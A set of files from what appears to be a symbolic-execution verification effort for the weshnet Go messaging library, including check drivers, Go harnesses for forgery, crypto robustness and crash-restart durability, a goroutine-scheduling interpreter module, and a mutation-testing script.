    return Check(pid, ROOT_PKGS + list(extra_pkgs), '', ['root/zz_verif_env.go'] + files,
                 installers=[crypto.install, crypto.install_proto, orbit.install] + list(extra_installers),
                 init_pkgs=[MOD + '/pkg/errcode', MOD], prelude_pkgname='weshnet')


def main():
    t = tier()
    chk = root_check('C03', ['C03/zz_verif_c03.go'])
    P = MOD + '.'
    chk.load([P + n for n in ('VerifC03Forge', 'VerifC03Unknown', 'VerifC03Honest', 'VerifC03Replay', 'VerifC03StateUnchanged', 'VerifC03Witness')])
    cfg = {'timeout_ms': 60000, 'unwind': 12}
    jobs = []
    for et in EVENT_TYPES:
        jobs.append(Job(P + 'VerifC03Forge', (et, 0), cfg=cfg))
    jobs.append(Job(P + 'VerifC03Forge', (1, 1), cfg=cfg))
    jobs.append(Job(P + 'VerifC03Unknown', (), cfg=cfg))
    for k in (0, 1, 2):
        jobs.append(Job(P + 'VerifC03Honest', (k,), cfg=cfg))
    for k in (0, 1, 2):
        jobs.append(Job(P + 'VerifC03Replay', (k,), cfg=cfg))
    jobs.append(Job(P + 'VerifC03StateUnchanged', (1,), cfg=cfg))
    jobs.append(Job(P + 'VerifC03StateUnchanged', (3,), cfg=cfg))
    jobs.append(Job(P + 'VerifC03Witness', (), witness=True, cfg=cfg))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Symbolic execution of openGroupEnvelope + eventTypesMapper (read from the package initialiser of the current tree) + '
                       'the three signature checkers + UpdateIndex over the term algebra. For each of the 21 mapped event types the envelope '
                       'is a FREE byte string and the group secret is adversary-known; exactly the signer(s) the property requires for that '
                       'type are honest and have signed nothing, every other key is adversary-controlled: an accepted event naming an honest '
                       'key is a violation. Unknown type numbers, honest positive controls per checker kind, other-group rejection, and '
                       '"a rejected entry leaves every index map empty".',
           bounds={'event_types': EVENT_TYPES, 'outside': 'authorisation of honest-but-unauthorised signers; the emitter goroutine of constructorFactoryGroupMetadata (event bus)'},
           assumptions=['EUF-CMA for the keys declared honest', 'typed protobuf parse (no wire malleability)', 'package initialiser executed leniently (unknown calls yield opaque values)'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
