package cryptoutil

// Exported helpers that applications feed with untrusted bytes: no panic for any key/data lengths.

func VerifC19AESGCMDecrypt(keyLen, dataLen int) {
	key := verif_anyVec("key", keyLen)
	data := verif_anyVec("data", dataLen)
	_, _ = AESGCMDecrypt(key, data)
	verif_reach("C19.aesgcm.ok")
}

func VerifC19AESGCMEncrypt(keyLen, dataLen int) {
	key := verif_anyVec("key", keyLen)
	data := verif_anyVec("data", dataLen)
	out, err := AESGCMEncrypt(key, data)
	if err == nil {
		verif_assert(len(out) == dataLen+12+16, "C19.aesgcm: output = nonce || ciphertext || tag")
		_, _ = AESGCMDecrypt(key, out)
	}
}

func VerifC19SliceToArray(n int) {
	b := verif_anyVec("b", n)
	k, err := KeySliceToArray(b)
	verif_assert((err == nil) == (n == KeySize) && (err != nil || k != nil), "C19.cryptoutil: KeySliceToArray accepts exactly 32 bytes")
	nn, err := NonceSliceToArray(b)
	verif_assert((err == nil) == (n == NonceSize) && (err != nil || nn != nil), "C19.cryptoutil: NonceSliceToArray accepts exactly 24 bytes")
	_, _ = KeySliceToArray(nil)
	_, _ = NonceSliceToArray(nil)
}

func VerifC19AESCTR(keyLen, ivLen int) {
	var key, iv []byte
	if keyLen >= 0 {
		key = verif_anyVec("key", keyLen)
	}
	if ivLen >= 0 {
		iv = verif_anyVec("iv", ivLen)
	}
	_, _ = AESCTRStream(key, iv)
}

func VerifC19CryptoWitness() {
	_, err := AESGCMDecrypt(verif_anyVec("key", 32), verif_anyVec("data", 28))
	if err == nil {
		verif_assert(false, "C19.cryptoutil.witness: reachable")
	}
}
