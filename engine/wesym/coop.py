"""Symbolic scheduler inside the path-forking interpreter ("coop" mode).

Goroutines share ONE interpreter memory (maps, pointer-linked structures, closures: everything the sequential
interpreter can hold), each runs on its own Python thread with strict hand-off, and control changes hands only at
*synchronisation operations* (mutex acquire, channel send / receive / select, context reads, datastore and keystore
operations, WaitGroup.Wait, goroutine end).  Which enabled goroutine moves at such a point is a fresh solver variable
`sched!k` constrained to the enabled set; the interpreter forks over its feasible values exactly like over any other
symbolic branch, so a path = (data path condition, schedule) and every assertion is decided by the solver for all data
of that path.  A switch away from a goroutine that could itself continue is a *preemption*; paths are explored up to a
stated preemption bound (context bounding); switches at blocking points are free.

This complements bmc.py: the BMC encodes the schedule inside one formula but only knows scalar / channel-pointer shared
cells; coop mode handles arbitrary shared heap state at the price of forking per scheduling decision.

Soundness assumptions (stated in DESIGN 4b): sequential consistency; the code is data-race free w.r.t. the
synchronisation operations listed above (so that switching only there loses no behaviour); an unbuffered send is enabled
when a receiver is parked on the channel and completes without waiting for the receiver to resume.
"""
import threading
import z3
from .values import *
from .interp import simp_bool


class CoopKill(BaseException):
    pass


class Stuck(Exception):
    pass


class G:
    def __init__(self, gid, name, f, args):
        self.id = gid
        self.name = name
        self.f = f
        self.args = args
        self.thread = None
        self.sem = threading.Semaphore(0)
        self.done = False
        self.started = False
        self.enabled = lambda: True
        self.label = 'start'
        self.pos = ''
        self.saved = (0, [], None)
        self.waiting_recv = None  # channels this goroutine is parked on as a receiver
        self.waiting_send = None  # [(chan, value, [taken])] while parked as a sender
        self.handoff = None  # (chan, value) handed directly to this parked receiver by a sender


class Coop:
    def __init__(self, I, cfg):
        self.I = I
        self.cfg = cfg
        self.main = G(0, 'main', None, None)
        self.main.started = True
        self.gs = [self.main]
        self.cur = self.main
        self.preemptions = 0
        self.killed = False
        self.pending = None
        self.nsched = 0
        self.schedule = []  # (goroutine name, label, pos) in execution order: one item per hand-over
        self.steps = 0

    # ------------------------------------------------------------------ goroutine creation
    def spawn(self, f, args, name=None):
        g = G(len(self.gs), name or ('g%d' % len(self.gs)), f, args)
        self.gs.append(g)
        return g

    def _body(self, g):
        I = self.I
        try:
            try:
                if self.killed:
                    return
                f = g.f
                if isinstance(f, tuple) and f[0] == 'invoke':
                    I.invoke(f[1], f[2], g.args, {})
                else:
                    I.call_value(f, g.args, {})
            except CoopKill:
                return
            except BaseException as e:  # PathEnd, Inconclusive, Unwind, GoPanic, Stuck, internal errors
                self._fail(e)
                return
            g.done = True
            g.enabled = lambda: False
            g.label = 'finished'
            try:
                self._handover_from_finished(g)
            except CoopKill:
                return
            except BaseException as e:
                self._fail(e)
        finally:
            pass

    def _fail(self, e):
        """an exception in a goroutine ends the path: it is re-raised on the main thread"""
        self.pending = e
        self.killed = True
        self.cur = self.main
        self.main.sem.release()

    # ------------------------------------------------------------------ scheduling
    def _enabled_set(self):
        others = [h for h in self.gs[1:] if not h.done and h.enabled()]
        if others:
            # the harness goroutine only moves at quiescence of everything else or when it is itself at a sync op
            if not self.main.done and self.main.label != 'quiesce' and self.main.enabled():
                return [self.main] + others
            return others
        if not self.main.done and self.main.enabled():
            return [self.main]
        return []

    def _choose(self, options, label):
        I = self.I
        if len(options) == 1:
            return options[0]
        who = I.fresh_int('sched')
        self.nsched += 1
        I.register_input('sched!%d@%s' % (self.nsched, label), who)
        idx = I.decide([who == h.id for h in options], 'sched')
        return options[idx]

    def _switch(self, g, nxt):
        """hand control from g (current thread) to nxt and wait until g is scheduled again"""
        I = self.I
        g.saved = (I.depth, I.callstack, getattr(I, 'cur_frame_for_recover', None))
        self._resume(nxt)
        g.sem.acquire()
        if self.killed:
            if g is self.main and self.pending is not None:
                e, self.pending = self.pending, None
                raise e
            raise CoopKill()

    def _resume(self, nxt):
        I = self.I
        self.cur = nxt
        I.depth, I.callstack, I.cur_frame_for_recover = nxt.saved
        if not nxt.started:
            nxt.started = True
            nxt.saved = (0, [], None)
            I.depth, I.callstack, I.cur_frame_for_recover = 0, [], None
            nxt.thread = threading.Thread(target=self._body, args=(nxt,), daemon=True)
            nxt.thread.start()
        else:
            nxt.sem.release()

    def sync(self, enabled, label, ins=None):
        """scheduling point of the current goroutine before a synchronisation operation that is enabled when
        `enabled()` holds; returns when this goroutine has been chosen to perform it"""
        g = self.cur
        self.steps += 1
        if self.steps > self.cfg.get('max_sync', 4000):
            raise Inconclusive('coop: more than %d synchronisation steps on one path' % self.cfg.get('max_sync', 4000))
        g.enabled = enabled
        g.label = label
        g.pos = (ins or {}).get('pos', '') if isinstance(ins, dict) else ''
        if self.I.callstack:
            from .bmc import short_fn
            g.pos = (g.pos + ' in ' + short_fn(self.I.callstack[-1])).strip()
        E = self._enabled_set()
        if not E:
            raise GoPanic('deadlock', self.describe_stuck(), g.pos)
        if g in E:
            opts = [g]
            if self.preemptions < self.cfg.get('preemptions', 1):
                opts += [h for h in E if h is not g]
        else:
            opts = E
        nxt = self._choose(opts, label)
        if nxt is g:
            g.enabled = lambda: True
            self.schedule.append((g.name, label, g.pos))
            return
        if g in E:
            self.preemptions += 1
            self.schedule.append((g.name, 'PREEMPTED before ' + label, g.pos))
        self._switch(g, nxt)
        g.enabled = lambda: True
        self.schedule.append((g.name, label, g.pos))

    def _handover_from_finished(self, g):
        E = self._enabled_set()
        if not E:
            raise GoPanic('deadlock', self.describe_stuck(), '')
        nxt = self._choose(E, 'end-of-' + g.name)
        I = self.I
        self._resume(nxt)

    def quiesce(self):
        """harness goroutine: wait until no other goroutine can move (all finished or blocked)"""
        g = self.cur
        assert g is self.main
        g.label = 'quiesce'
        g.pos = ''
        g.enabled = lambda: True
        E = self._enabled_set()
        if E == [g]:
            g.label = 'running'
            return
        nxt = self._choose(E, 'quiesce')
        self._switch(g, nxt)
        g.label = 'running'

    def describe_stuck(self):
        return 'no goroutine can move: ' + '; '.join('%s at %s %s' % (h.name, h.label, h.pos) for h in self.gs if not h.done)

    def parked(self):
        return [(h.name, h.label, h.pos) for h in self.gs[1:] if not h.done]

    def teardown(self):
        self.killed = True
        for h in self.gs[1:]:
            if h.started and h.thread is not None and h.thread.is_alive():
                h.sem.release()
        for h in self.gs[1:]:
            if h.thread is not None:
                h.thread.join(timeout=30)


# ---------------------------------------------------------------------------------------------- contracts
CANCELED = Iface(-1, Native('sentinel', name='context.Canceled'))


def _lockkey(p):
    return (id(p.c), p.i)


def install(I, preemptions=1, ds_sync=True, max_sync=4000):
    """switch interpreter I to coop mode (call after the sequential contracts have been installed)"""
    C, M, N = I.contracts, I.methods, I.intrinsics
    cfg = {'preemptions': preemptions, 'max_sync': max_sync}

    orig_run_entry = I.run_entry

    def run_entry(name, args=()):
        co = Coop(I, cfg)
        I.coop = co
        try:
            return orig_run_entry(name, args)
        finally:
            I.path.ghost['schedule'] = list(co.schedule)
            I.path.ghost['parked'] = co.parked()
            co.teardown()
            I.coop = None

    I.run_entry = run_entry

    def co(I):
        c = getattr(I, 'coop', None)
        if c is None:
            raise Inconclusive('coop contract used outside run_entry')
        return c

    # --- goroutines
    def go(I, args, ins):
        f, a = args
        co(I).spawn(f, a)
        return None

    C['go'] = go

    def v_go(I, args, ins):
        name, f = args
        from .contracts.base import gostr
        co(I).spawn(f, [], name=gostr(I, name) if not isinstance(name, str) else name)
        return None

    N['verif_go'] = v_go
    N['verif_quiesce'] = lambda I, a, ins: co(I).quiesce()

    def v_parked(I, args, ins):
        """number of goroutines that have not finished (to be used after verif_quiesce)"""
        return len(co(I).parked())

    N['verif_parkedCount'] = v_parked

    # --- mutexes
    def locks(I):
        return I.path.ghost.setdefault('locks', {})

    def m_lock(I, args, ins):
        p = args[0]
        if p is None:
            raise GoPanic('nil-deref', 'Lock on nil mutex', (ins or {}).get('pos', ''))
        tab, key = locks(I), _lockkey(p)
        co(I).sync(lambda: tab.get(key, 0) == 0, 'Lock', ins)
        tab[key] = -1
        return None

    def m_unlock(I, args, ins):
        p = args[0]
        tab, key = locks(I), _lockkey(p)
        if tab.get(key, 0) != -1:
            raise GoPanic('unlock-of-unlocked', 'sync: unlock of unlocked mutex', (ins or {}).get('pos', ''))
        tab[key] = 0
        return None

    def m_rlock(I, args, ins):
        p = args[0]
        tab, key = locks(I), _lockkey(p)
        co(I).sync(lambda: tab.get(key, 0) >= 0, 'RLock', ins)
        tab[key] = tab.get(key, 0) + 1
        return None

    def m_runlock(I, args, ins):
        p = args[0]
        tab, key = locks(I), _lockkey(p)
        if tab.get(key, 0) <= 0:
            raise GoPanic('unlock-of-unlocked', 'sync: RUnlock of unlocked RWMutex', (ins or {}).get('pos', ''))
        tab[key] -= 1
        return None

    def m_trylock(I, args, ins):
        p = args[0]
        tab, key = locks(I), _lockkey(p)
        co(I).sync(lambda: True, 'TryLock', ins)
        if tab.get(key, 0) != 0:
            return False
        tab[key] = -1
        return True

    C['(*sync.Mutex).Lock'] = C['(*sync.RWMutex).Lock'] = m_lock
    C['(*sync.Mutex).Unlock'] = C['(*sync.RWMutex).Unlock'] = m_unlock
    C['(*sync.RWMutex).RLock'] = m_rlock
    C['(*sync.RWMutex).RUnlock'] = m_runlock
    C['(*sync.Mutex).TryLock'] = m_trylock

    def wg(I, p):
        return I.path.ghost.setdefault('wg', {}), _lockkey(p)

    def wg_add(I, args, ins):
        tab, key = wg(I, args[0])
        n = args[1]
        if not isinstance(n, int):
            n = I.concretize(n, 'wg.Add')
        tab[key] = tab.get(key, 0) + n
        return None

    def wg_done(I, args, ins):
        tab, key = wg(I, args[0])
        tab[key] = tab.get(key, 0) - 1
        return None

    def wg_wait(I, args, ins):
        tab, key = wg(I, args[0])
        co(I).sync(lambda: tab.get(key, 0) <= 0, 'WaitGroup.Wait', ins)
        return None

    C['(*sync.WaitGroup).Add'] = wg_add
    C['(*sync.WaitGroup).Done'] = wg_done
    C['(*sync.WaitGroup).Wait'] = wg_wait

    # --- channels
    # A channel operation is atomic in Go: it either completes or parks the goroutine in one step. It is modelled as
    # (1) a scheduling point that is always enabled -- the moment the operation starts: readiness is evaluated there --
    # and, when nothing is ready, (2) a parked state (the goroutine is registered as a waiting receiver / sender of the
    # channels involved) with a second scheduling point enabled when a case is ready. The window between leaving a lock
    # and being parked on a channel is therefore visible to the other goroutines, which is where wake-ups get lost.
    def mkchan(I, args, ins):
        n = args[0]
        if not isinstance(n, int):
            n = I.concretize(n, 'chan-cap')
        return Chan(n, name=(ins or {}).get('pos', ''))

    C['chan.make'] = mkchan

    def is_done(ch):
        return isinstance(ch, Native) and ch.kind == 'donechan'

    def done_closed(ch):
        return ch.ctx.cancelled if getattr(ch, 'ctx', None) is not None else ch.closed

    def recv_waiters(c, ch):
        return [h for h in c.gs if not h.done and h is not c.cur and h.waiting_recv is not None and any(x is ch for x in h.waiting_recv)]

    def send_waiters(c, ch):
        return [h for h in c.gs if not h.done and h is not c.cur and getattr(h, 'waiting_send', None) and
                any(x[0] is ch and not x[2][0] for x in h.waiting_send)]

    def send_ready(c, ch):
        if ch is None:
            return False
        if ch.closed:
            return True  # panics
        if len(ch.buf) < ch.cap:
            return True
        if ch.cap == 0 and len(ch.buf) == 0 and recv_waiters(c, ch):
            return True
        return False

    def recv_ready(c, ch):
        if ch is None:
            return False
        if is_done(ch):
            return done_closed(ch)
        return bool(ch.buf) or ch.closed or bool(send_waiters(c, ch))

    def do_send(I, ch, v, ins):
        if ch.closed:
            raise GoPanic('send-on-closed', None, (ins or {}).get('pos', ''))
        if ch.cap == 0 and not ch.buf:
            # unbuffered: the value goes directly to a parked receiver, which is thereby COMMITTED to this case of its
            # select (as in the Go run time: the receiver is dequeued with the case chosen)
            c = co(I)
            ws = recv_waiters(c, ch)
            if ws:
                w = ws[0]
                w.handoff = (ch, v)
                w.waiting_recv = None
                return
        ch.buf.append(v)

    def do_recv(I, c, ch, ins):
        """returns (value, ok)"""
        if is_done(ch):
            return (None, False)
        if ch.buf:
            v = ch.buf.pop(0)
            # a sender parked on a full buffered channel moves its value in
            for h in send_waiters(c, ch):
                for x in h.waiting_send:
                    if x[0] is ch and not x[2][0] and len(ch.buf) < ch.cap:
                        ch.buf.append(x[1])
                        x[2][0] = True
                        break
                break
            return (v, True)
        ws = send_waiters(c, ch)
        if ws:
            for x in ws[0].waiting_send:
                if x[0] is ch and not x[2][0]:
                    x[2][0] = True
                    return (x[1], True)
        return (None, False)

    def chan_op(I, states, blocking, ins, label):
        """states: [(dir, chan, value)], dir 1 = send, 2 = recv. Returns (index or -1, value, ok)"""
        c = co(I)
        g = c.cur

        def ready():
            r = []
            for idx, (d, ch, sv) in enumerate(states):
                if ch is None:
                    continue
                if d == 1:
                    if send_ready(c, ch):
                        r.append(idx)
                else:
                    if recv_ready(c, ch):
                        r.append(idx)
            return r

        c.sync(lambda: True, label, ins)
        r = ready()
        if not r:
            if not blocking:
                return (-1, None, False)
            # park: register as waiting receiver / sender; a parked sender may be completed by a receiver
            g.waiting_recv = [ch for (d, ch, sv) in states if d == 2 and ch is not None]
            sends = [(ch, sv, [False]) for (d, ch, sv) in states if d == 1 and ch is not None]
            g.waiting_send = sends
            g.handoff = None
            try:
                c.sync(lambda: g.handoff is not None or bool(ready()) or any(x[2][0] for x in sends), label + '-parked', ins)
            finally:
                g.waiting_recv = None
                g.waiting_send = None
            if g.handoff is not None:
                hch, hv = g.handoff
                g.handoff = None
                idx = [i for i, (d, ch, sv) in enumerate(states) if d == 2 and ch is hch][0]
                return (idx, hv, True)
            for k, x in enumerate(sends):
                if x[2][0]:
                    # a receiver took the value while this goroutine was parked
                    idx = [i for i, (d, ch, sv) in enumerate(states) if d == 1 and ch is x[0]][0]
                    return (idx, None, False)
            r = ready()
        idx = r[0]
        if len(r) > 1:
            # Go picks among the ready cases at random: a solver-chosen alternative
            which = I.fresh_int('selcase')
            idx = r[I.decide([which == j for j in r], 'select-case')]
        d, ch, sv = states[idx]
        if d == 1:
            do_send(I, ch, sv, ins)
            return (idx, None, False)
        v, ok = do_recv(I, c, ch, ins)
        return (idx, v, ok)

    def send(I, args, ins):
        ch, v = args
        if ch is None:
            co(I).sync(lambda: False, 'send-on-nil-chan', ins)
        chan_op(I, [(1, ch, v)], True, ins, 'send')
        return None

    C['chan.send'] = send

    def recv(I, args, ins):
        ch, commaok = args
        if ch is None:
            co(I).sync(lambda: False, 'recv-on-nil-chan', ins)
        idx, v, ok = chan_op(I, [(2, ch, None)], True, ins, 'recv')
        if commaok:
            t = I.prog.types[ins['t']].under()
            if not ok:
                v = I.zero(I.prog.types[t.fields[0]['t']])
            return (v, ok)
        if not ok:
            v = I.zero(I.prog.types[ins['t']])
        return v

    C['chan.recv'] = recv

    def close(I, args, ins):
        ch = args[0]
        co(I).sync(lambda: True, 'close', ins)
        if ch.closed:
            raise GoPanic('close-of-closed', None, (ins or {}).get('pos', ''))
        ch.closed = True
        return None

    C['builtin.close'] = close

    def select(I, args, ins):
        states, blocking = args
        t = I.prog.types[ins['t']].under()
        zeros = [I.zero(I.prog.types[f['t']]) for f in t.fields[2:]]
        idx, v, ok = chan_op(I, states, blocking, ins, 'select' if blocking else 'select-default')
        if idx < 0:
            return tuple([-1, False] + zeros)
        d, ch, sv = states[idx]
        if d == 1:
            return tuple([idx, False] + zeros)
        k = sum(1 for (dd, _, _) in states[:idx] if dd == 2)
        z = list(zeros)
        if ok:
            z[k] = v
        return tuple([idx, ok] + z)

    C['chan.select'] = select

    # --- context
    def new_ctx(parent=None):
        return Native('ctx', cancelled=False, parent=parent, as_iface=True)

    def ctx_cancelled(c):
        while c is not None:
            if c.cancelled:
                return True
            c = getattr(c, 'parent', None)
        return False

    class DoneChan(Native):
        pass

    def ctx_err(I, a, ins):
        co(I).sync(lambda: True, 'ctx.Err', ins)
        return CANCELED if ctx_cancelled(a[0]) else None

    def ctx_done(I, a, ins):
        d = Native('donechan', closed=False)
        d.ctx = _CtxView(a[0], ctx_cancelled)
        return d

    class _CtxView:
        def __init__(self, c, f):
            self.c, self.f = c, f

        @property
        def cancelled(self):
            return self.f(self.c)

    M[('ctx', 'Err')] = ctx_err
    M[('ctx', 'Done')] = ctx_done
    M[('ctx', 'Value')] = lambda I, a, ins: None

    def with_cancel(I, args, ins):
        parent = args[0]
        pc = parent.v if isinstance(parent, Iface) else None
        n = new_ctx(pc if isinstance(pc, Native) and pc.kind == 'ctx' else None)

        def cancel(I2, a2):
            co(I2).sync(lambda: True, 'cancel', ins)
            n.cancelled = True
            return None
        return (Iface(-20, n), PyFunc(cancel))

    C['context.WithCancel'] = with_cancel
    N['verif_cancelCtx'] = lambda I, a, ins: with_cancel(I, [a[0] if a else None], ins)
    I.globals_init['context.Canceled'] = lambda I, n: CANCELED

    # --- datastore / keystore operations are synchronisation operations of their own (internally locked)
    if ds_sync:
        def sync_point(label, ins=None):
            c = getattr(I, 'coop', None)
            if c is not None:
                c.sync(lambda: True, label, ins)
        I.sync_point = sync_point
    return cfg
