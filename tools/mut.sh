#!/bin/sh
# usage: tools/mut.sh <check.py> <file-in-repo> <sed-expr>   -- applies a mutation to /repo, runs the quick check, reverts
chk=$1; f=$2; expr=$3
cd /repo && cp "$f" /tmp/mut.bak && sed -i "$expr" "$f" && if cmp -s "$f" /tmp/mut.bak; then echo "MUTATION DID NOT APPLY"; fi
cd /verif && timeout 1200 python3-vt checks/$chk quick 2>&1 | grep -E "^(VIOLATION|INCONCLUSIVE|KNOWN|C[0-9]+ )|assertion" | head -${4:-6}
cd /repo && git checkout -- . 
