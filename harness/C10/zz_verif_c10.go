package secretstore

import (
	"github.com/ipfs/go-datastore"
	keystore "github.com/ipfs/go-ipfs-keystore"
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

// verif_crashIndex declares the crash point: a FREE integer kappa. From now on the i-th datastore / keystore mutation
// (Put, Delete, Batch.Commit -- a batch is atomic) is applied iff i < kappa: one symbolic run covers every crash point
// and "no crash". verif_restart ends the masking (the process came back on the surviving state).
func verif_crashIndex() int { panic("intrinsic") }
func verif_mutCount() int   { panic("intrinsic") }
func verif_restart()        { panic("intrinsic") }

func verifStoreOn(ds datastore.Datastore, ks keystore.Keystore, window int) *secretStore {
	s, err := newSecretStore(ds, &NewSecretStoreOptions{Keystore: ks, PreComputedKeysCount: window, PrecomputeOutOfStoreGroupRefsCount: 1})
	verif_assume(err == nil && s != nil)
	return s
}

// VerifC10Receive: workload = register the sender's chain key, open m1, open m2 (in the order given), with a crash at
// any mutation; the sender has sealed a third message, opened only after the restart. After restart on the surviving datastore: (i) every message whose open had completed before the crash
// opens again (found by CID) to the same payload; (ii) every other message is still openable, the interrupted
// registration being repeated as the callers do.
func VerifC10Receive(order int) {
	ctx := verif_background()
	snd := verifNewStore("snd", 2)
	ds := verif_datastore("rcv")
	ks := verifKeystore("ks")
	rcv := verifStoreOn(ds, ks, 2)
	g := verifGroup(snd, rcv, 3)
	gpk, err := g.GetPubKey()
	verif_assume(err == nil)
	sndMD, err := snd.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	rcvMD, err := rcv.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)
	enc, err := snd.GetShareableChainKey(ctx, g, rcvMD.Member())
	verif_assume(err == nil)
	var envs [3][]byte
	var plains [3][]byte
	for i := 0; i < 3; i++ {
		plains[i] = verif_anyBytesNonNil("plain")
		pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: plains[i]})
		envs[i], err = snd.SealEnvelope(ctx, g, pay)
		verif_assume(err == nil)
	}

	kappa := verif_crashIndex()
	// ---- the workload that may be interrupted
	_ = rcv.RegisterChainKey(ctx, g, sndMD.Device(), enc)
	var doneBefore [2]bool
	first, second := 0, 1
	if order == 1 {
		first, second = 1, 0
	}
	for _, i := range []int{first, second} {
		e, h, err := rcv.OpenEnvelopeHeaders(envs[i], g)
		verif_assume(err == nil)
		_, err = rcv.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD.Device(), verif_cidN(i))
		doneBefore[i] = err == nil && verif_mutCount() <= kappa
	}
	// ---- crash, restart on the surviving state
	verif_restart()
	rcv2 := verifStoreOn(ds, ks, 2)
	rcvMD2, err := rcv2.deviceKeystore.memberDeviceForGroup(g)
	verif_assert(err == nil, "C10: member/device keys are available after restart")
	if err != nil {
		return
	}
	verif_assert(rcvMD2.Member().Equals(rcvMD.Member()) && rcvMD2.Device().Equals(rcvMD.Device()), "C10: account, member and device keys after restart are the ones in use before")
	// the announcement is delivered again after a restart (the metadata log replays it)
	verif_assert(rcv2.RegisterChainKey(ctx, g, sndMD.Device(), enc) == nil, "C10: re-registration after restart succeeds")
	for _, i := range []int{first, second} {
		e, h, err := rcv2.OpenEnvelopeHeaders(envs[i], g)
		verif_assume(err == nil)
		msg, err := rcv2.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD2.Device(), verif_cidN(i))
		if doneBefore[i] {
			verif_assert(err == nil, "C10.i: a message opened before the crash can still be opened after restart")
		} else {
			verif_assert(err == nil, "C10.ii: a message that was openable and not yet opened remains openable after restart")
		}
		if err == nil {
			verif_assert(verif_bytesEq(msg.Plaintext, plains[i]), "C10: and opens to the original payload")
		}
	}
	// the workload continues: the sender's next message (counter 3 = window 2 + one opened message past the first) was not
	// openable when the process stopped, and is now, exactly as in a run that was never interrupted
	{
		e, h, err := rcv2.OpenEnvelopeHeaders(envs[2], g)
		verif_assume(err == nil)
		msg, err := rcv2.OpenEnvelopePayload(ctx, e, h, gpk, rcvMD2.Device(), verif_cidN(2))
		verif_assert(err == nil, "C10.iii: after restart the store is as usable as if it had not stopped: the next message of the sender opens")
		if err == nil {
			verif_assert(verif_bytesEq(msg.Plaintext, plains[2]), "C10: and opens to the original payload")
		}
	}
	verif_reach("C10.receive.ok")
}

// VerifC10Send: workload = seal s1, seal s2 with a crash at any mutation; an envelope handed to the caller before the
// crash never shares its counter with an envelope sealed after restart.
func VerifC10Send() {
	ctx := verif_background()
	ds := verif_datastore("snd")
	ks := verifKeystore("ks")
	snd := verifStoreOn(ds, ks, 2)
	oth := verifNewStore("oth", 2)
	g := verifGroup(snd, oth, 3)
	_, err := snd.getOwnDeviceChainKeyForGroup(ctx, g)
	verif_assume(err == nil)
	md0, err := snd.deviceKeystore.memberDeviceForGroup(g)
	verif_assume(err == nil)

	kappa := verif_crashIndex()
	var handed [2]bool
	var counters [2]uint64
	for i := 0; i < 2; i++ {
		pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: verif_anyBytesNonNil("plain")})
		env, err := snd.SealEnvelope(ctx, g, pay)
		handed[i] = err == nil && verif_mutCount() <= kappa
		if err == nil {
			_, h, err := snd.OpenEnvelopeHeaders(env, g)
			verif_assume(err == nil)
			counters[i] = h.Counter
		}
	}
	verif_restart()
	snd2 := verifStoreOn(ds, ks, 2)
	md2, err := snd2.deviceKeystore.memberDeviceForGroup(g)
	verif_assert(err == nil && md2.Device().Equals(md0.Device()) && md2.Member().Equals(md0.Member()), "C10: the sender's keys survive the restart")
	pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: verif_anyBytesNonNil("plain3")})
	env3, err := snd2.SealEnvelope(ctx, g, pay)
	verif_assert(err == nil, "C10: sealing works after restart")
	if err != nil {
		return
	}
	_, h3, err := snd2.OpenEnvelopeHeaders(env3, g)
	verif_assume(err == nil)
	for i := 0; i < 2; i++ {
		if handed[i] {
			verif_assert(h3.Counter != counters[i], "C10.iii: an envelope handed out before the crash never shares its counter with one sealed after restart")
		}
	}
	verif_reach("C10.send.ok")
}

// VerifC10Keys: first use of account / device / member keys interrupted at any mutation; after restart the keys read
// are the ones that had been returned before the crash.
func VerifC10Keys() {
	ds := verif_datastore("s")
	ks := verifKeystore("ks")
	s := verifStoreOn(ds, ks, 2)
	g, _, err := protocoltypes.NewGroupMultiMember()
	verif_assume(err == nil)
	kappa := verif_crashIndex()
	ak, err1 := s.GetAccountPrivateKey()
	akDone := err1 == nil && verif_mutCount() <= kappa
	md, err2 := s.GetOwnMemberDeviceForGroup(g)
	mdDone := err2 == nil && verif_mutCount() <= kappa
	verif_restart()
	s2 := verifStoreOn(ds, ks, 2)
	ak2, err := s2.GetAccountPrivateKey()
	verif_assert(err == nil, "C10: account key readable after restart")
	if akDone && err == nil {
		verif_assert(ak2.Equals(ak), "C10.iv: the account key after restart is the one returned before the crash")
	}
	md2, err := s2.GetOwnMemberDeviceForGroup(g)
	verif_assert(err == nil, "C10: member/device keys readable after restart")
	if mdDone && err == nil {
		verif_assert(md2.Member().Equals(md.Member()) && md2.Device().Equals(md.Device()), "C10.iv: member and device keys after restart are the ones returned before the crash")
	}
	verif_reach("C10.keys.ok")
}

func VerifC10Witness() {
	VerifC10Send()
	verif_assert(false, "C10.witness: reachable")
}
