"""Sequential-mode semantics of channels / select / context (no other goroutine exists)."""
from ..values import *
from .base import mk_error, gostr


def install(I):
    def select(I, args, ins):
        states, blocking = args
        nrecv = sum(1 for (d, c, s) in states if d == 2)
        t = I.prog.types[ins['t']].under()
        zeros = []
        for f in t.fields[2:]:
            zeros.append(I.zero(I.prog.types[f['t']]))
        for idx, (d, ch, sv) in enumerate(states):
            if ch is None:
                continue
            if isinstance(ch, Native) and ch.kind == 'donechan':
                if ch.closed:
                    return tuple([idx, False] + zeros)
                continue
            if d == 1:  # send
                if ch.closed:
                    raise GoPanic('send-on-closed', None, ins.get('pos', ''))
                if len(ch.buf) < ch.cap:
                    ch.buf.append(sv)
                    return tuple([idx, False] + zeros)
            else:
                if ch.buf:
                    v = ch.buf.pop(0)
                    k = sum(1 for (dd, _, _) in states[:idx] if dd == 2)
                    z = list(zeros)
                    z[k] = v
                    return tuple([idx, True] + z)
                if ch.closed:
                    return tuple([idx, False] + zeros)
        if not blocking:
            return tuple([-1, False] + zeros)
        raise GoPanic('deadlock', 'blocking select with no ready case and no other goroutine', ins.get('pos', ''))

    I.contracts['chan.select'] = select

    def v_ctx(I, args, ins):
        c = args[0]
        if not isinstance(c, bool):
